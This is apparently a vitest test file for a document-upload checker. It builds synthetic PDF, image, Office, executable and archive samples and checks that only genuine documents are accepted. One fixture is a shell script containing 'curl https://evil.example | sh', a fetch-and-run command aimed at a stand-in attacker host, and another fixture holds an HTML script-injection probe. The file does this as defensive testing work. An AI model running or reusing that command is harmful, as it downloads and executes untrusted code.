import { crc32, deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { readCompoundFileNames } from './compound-file';
import { checkUpload, CONTENT_TYPES, detectFileType, NOT_A_DOCUMENT_MESSAGE } from './file-type';
import { MAX_DOCUMENT_BYTES } from './size-limit';
import { readZipEntryNames } from './zip-entries';

// ---- Minimal but structurally real samples, built here so no binary fixtures are needed. ----

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n' +
    'trailer<</Root 1 0 R>>\n%%EOF\n',
  'latin1',
);
const PNG = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
  Buffer.alloc(32),
]);
const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.alloc(32)]);
const EXE = Buffer.concat([
  Buffer.from('MZ\x90\x00', 'latin1'),
  Buffer.alloc(60),
  Buffer.from('PE'),
]);
const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(64)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');

/** A ZIP archive (deflated entries, central directory, optional trailing comment). */
function zip(entries: Record<string, string>, comment = ''): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(entries)) {
    const nameBytes = Buffer.from(name, 'utf8');
    const raw = Buffer.from(content, 'utf8');
    const data = deflateRawSync(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(crc32(raw), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc32(raw), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  const count = Object.keys(entries).length;
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(Buffer.byteLength(comment), 20);
  return Buffer.concat([...locals, directory, end, Buffer.from(comment)]);
}

const CONTENT_TYPES_XML = '<?xml version="1.0"?><Types/>';
const DOCX = zip({
  '[Content_Types].xml': CONTENT_TYPES_XML,
  '_rels/.rels': '<Relationships/>',
  'word/document.xml': '<w:document/>',
});
const XLSX = zip({
  '[Content_Types].xml': CONTENT_TYPES_XML,
  'xl/workbook.xml': '<workbook/>',
  'xl/worksheets/sheet1.xml': '<worksheet/>',
});

/**
 * An OLE2 compound file (512-byte sectors) whose directory holds `names` as streams. `fatSectors`
 * above 109 forces a DIFAT sector; more than 3 names chain several directory sectors.
 */
function compoundFile(names: string[], fatSectors = 1): Buffer {
  const FREE = 0xffffffff;
  const END = 0xfffffffe;
  const size = 512;
  const difatSectors = fatSectors > 109 ? Math.ceil((fatSectors - 109) / 127) : 0;
  const directorySectors = Math.ceil((names.length + 1) / 4);
  const firstDirectory = fatSectors + difatSectors;
  const total = firstDirectory + directorySectors;
  const file = Buffer.alloc(size * (total + 1));
  const sectorAt = (id: number) => (id + 1) * size;

  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file, 0);
  file.writeUInt16LE(0x3e, 0x18);
  file.writeUInt16LE(3, 0x1a);
  file.writeUInt16LE(0xfffe, 0x1c);
  file.writeUInt16LE(9, 0x1e);
  file.writeUInt16LE(6, 0x20);
  file.writeUInt32LE(fatSectors, 0x2c);
  file.writeUInt32LE(firstDirectory, 0x30);
  file.writeUInt32LE(4096, 0x38);
  file.writeUInt32LE(END, 0x3c);
  file.writeUInt32LE(difatSectors ? fatSectors : END, 0x44);
  file.writeUInt32LE(difatSectors, 0x48);
  for (let i = 0; i < 109; i++) file.writeUInt32LE(i < fatSectors ? i : FREE, 0x4c + i * 4);

  const fat = new Array<number>(fatSectors * 128).fill(FREE);
  for (let id = 0; id < fatSectors; id++) fat[id] = 0xfffffffd;
  for (let id = fatSectors; id < firstDirectory; id++) fat[id] = 0xfffffffc;
  for (let id = firstDirectory; id < total; id++) fat[id] = id + 1 < total ? id + 1 : END;
  fat.forEach((value, i) =>
    file.writeUInt32LE(value, sectorAt(Math.floor(i / 128)) + (i % 128) * 4),
  );

  for (let d = 0; d < difatSectors; d++) {
    const at = sectorAt(fatSectors + d);
    for (let i = 0; i < 127; i++) {
      const fatId = 109 + d * 127 + i;
      file.writeUInt32LE(fatId < fatSectors ? fatId : FREE, at + i * 4);
    }
    file.writeUInt32LE(d + 1 < difatSectors ? fatSectors + d + 1 : END, at + 508);
  }

  ['Root Entry', ...names].forEach((name, i) => {
    const at = sectorAt(firstDirectory + Math.floor(i / 4)) + (i % 4) * 128;
    const encoded = Buffer.from(`${name}\0`, 'utf16le');
    encoded.copy(file, at);
    file.writeUInt16LE(encoded.length, at + 64);
    file[at + 66] = i === 0 ? 5 : 2;
    file.writeUInt32LE(FREE, at + 68);
    file.writeUInt32LE(FREE, at + 72);
    file.writeUInt32LE(i === 0 && names.length ? 1 : FREE, at + 76);
    file.writeUInt32LE(END, at + 116);
  });
  return file;
}

const DOC = compoundFile(['\u0001CompObj', 'WordDocument', '1Table']);
const XLS = compoundFile(['Workbook', '\u0005SummaryInformation']);

// ---- Tests ----

describe('file type detection', () => {
  it.each([
    ['pdf', PDF],
    ['png', PNG],
    ['jpg', JPEG],
    ['docx', DOCX],
    ['xlsx', XLSX],
    ['doc', DOC],
    ['xls', XLS],
  ])('recognises a %s by its content', (type, bytes) => {
    expect(detectFileType(bytes)).toBe(type);
    expect(detectFileType(bytes.subarray(0, 16), bytes)).toBe(type);
  });

  it.each([
    ['a Windows executable', EXE],
    ['an ELF binary', ELF],
    ['a shell script', SCRIPT],
    ['HTML', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['an executable with a PDF marker inside', Buffer.concat([EXE, Buffer.from('%PDF-1.4')])],
    ['an empty buffer', Buffer.alloc(0)],
  ])('refuses %s', (_name, bytes) => {
    expect(detectFileType(bytes)).toBeNull();
  });

  it('needs the whole file to tell Word from Excel', () => {
    expect(detectFileType(DOCX.subarray(0, 64))).toBeNull();
    expect(detectFileType(DOC.subarray(0, 512))).toBeNull();
  });

  describe('ZIP-based Office files', () => {
    it('reads the central directory, past a trailing comment', () => {
      const withComment = zip({ '[Content_Types].xml': CONTENT_TYPES_XML, 'xl/a.xml': '' }, 'hi');
      expect(readZipEntryNames(withComment)).toEqual(['[Content_Types].xml', 'xl/a.xml']);
      expect(detectFileType(withComment)).toBe('xlsx');
    });

    it('refuses other ZIPs: plain archives, PowerPoint, macro-enabled files, broken ones', () => {
      expect(detectFileType(zip({ 'evil.exe': 'MZ' }))).toBeNull();
      expect(detectFileType(zip({ '[Content_Types].xml': '', 'ppt/slide1.xml': '' }))).toBeNull();
      const docm = zip({
        '[Content_Types].xml': '',
        'word/document.xml': '',
        'word/vbaProject.bin': 'macros',
      });
      expect(detectFileType(docm)).toBeNull();
      expect(readZipEntryNames(DOCX.subarray(0, DOCX.length - 10))).toBeNull();
    });
  });

  describe('OLE2 Office files', () => {
    it('reads directory names across chained directory sectors', () => {
      const names = ['a', 'b', 'c', 'd', 'e', 'f', 'WordDocument'];
      expect(readCompoundFileNames(compoundFile(names))).toEqual(['Root Entry', ...names]);
      expect(detectFileType(compoundFile(names))).toBe('doc');
    });

    it('follows the DIFAT chain of a file with more than 109 FAT sectors', () => {
      const big = compoundFile(['Workbook'], 120);
      expect(big.length).toBeGreaterThan(120 * 512);
      expect(detectFileType(big)).toBe('xls');
    });

    it('reads a file whose last sector was cut short', () => {
      const names = ['a', 'b', 'c', 'd', 'WordDocument'];
      const file = compoundFile(names);
      expect(readCompoundFileNames(file.subarray(0, file.length - 300))).toContain('WordDocument');
    });

    it('accepts the pre-97 Excel "Book" stream', () => {
      expect(detectFileType(compoundFile(['Book']))).toBe('xls');
    });

    it('refuses other compound files such as installers', () => {
      const msi = compoundFile(['\u4840\u3f3f\u4577', '\u0005SummaryInformation']);
      expect(detectFileType(msi)).toBeNull();
    });

    it('refuses a directory chain that loops', () => {
      const looping = Buffer.from(DOC);
      looping.writeUInt32LE(1, 512 + 4); // the directory sector points at itself
      expect(readCompoundFileNames(looping)).toBeNull();
    });
  });
});

describe('upload check', () => {
  it('accepts allowed types whatever the file is called, with the type of the content', () => {
    expect(checkUpload('scan.pdf', PDF)).toEqual({
      ok: true,
      type: 'pdf',
      contentType: 'application/pdf',
    });
    expect(checkUpload('photo.JPEG', JPEG)).toMatchObject({ ok: true, type: 'jpg' });
    expect(checkUpload('photo.jpg', PNG)).toMatchObject({ ok: true, type: 'png' });
    expect(checkUpload('budget.xlsx', XLSX)).toMatchObject({
      ok: true,
      contentType: CONTENT_TYPES.xlsx,
    });
  });

  it.each([
    ['invoice.pdf', EXE],
    ['setup.docx', ELF],
    ['notes.doc', SCRIPT],
    ['archive.xlsx', zip({ 'payload.exe': 'MZ' })],
  ])('refuses %s whose content is not a document', (name, bytes) => {
    expect(checkUpload(name, bytes)).toEqual({
      ok: false,
      reason: 'type',
      message: NOT_A_DOCUMENT_MESSAGE,
    });
  });

  it('falls back to the name only for an unreadable OLE2 file', () => {
    const damaged = Buffer.concat([DOC.subarray(0, 8), Buffer.alloc(600)]);
    expect(checkUpload('letter.doc', damaged)).toMatchObject({ ok: true, type: 'doc' });
    expect(checkUpload('sheet.XLS', damaged)).toMatchObject({ ok: true, type: 'xls' });
    expect(checkUpload('letter.pdf', damaged)).toMatchObject({ ok: false, reason: 'type' });
  });

  it('refuses empty and oversized files', () => {
    expect(checkUpload('empty.pdf', Buffer.alloc(0))).toMatchObject({ ok: false, reason: 'empty' });
    const huge = Buffer.concat([PDF, Buffer.alloc(MAX_DOCUMENT_BYTES)]);
    expect(checkUpload('huge.pdf', huge)).toMatchObject({
      ok: false,
      reason: 'too-large',
      message: 'This file is larger than 10 MB.',
    });
  });
});
